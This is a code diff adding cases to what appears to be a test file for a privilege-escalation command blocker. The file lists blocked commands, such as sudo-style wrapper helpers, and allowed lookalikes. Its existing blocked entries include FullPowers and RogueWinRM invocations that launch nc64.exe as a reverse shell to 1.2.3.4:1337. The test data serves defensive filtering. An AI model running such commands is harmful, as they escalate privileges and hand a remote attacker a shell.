@@ -110,6 +110,11 @@ BLOCKED = [
     # FullPowers gives a service account its privileges back; RogueWinRM impersonates SYSTEM.
     ("powershell", 'FullPowers -c "C:\\TOOLS\\nc64.exe 1.2.3.4 1337 -e cmd" -z'),
     ("powershell", ".\\RogueWinRM.exe -p C:\\Users\\Public\\nc64.exe"),
+    # a script's own helper named for elevating what it is given
+    ("posix", "request_sudo pmset -b displaysleep 20"),
+    ("posix", "maybe_sudo make install"),
+    ("posix", "sudo_wrapper ls"),
+    ("posix", "run_as_root tee /etc/hosts"),
 ]
 
 ALLOWED = [
@@ -139,6 +144,8 @@ ALLOWED = [
     ("posix", "grep -rn gksudo docs/"),
     ("powershell", '[System.IO.Path]::Combine("src", "app.ps1")'),
     ("powershell", "Write-Output 'needs runas'"),
+    ("posix", "./scripts/check_sudoers_docs.sh"),
+    ("posix", "pseudo_random --seed 1"),
 ]
 
 
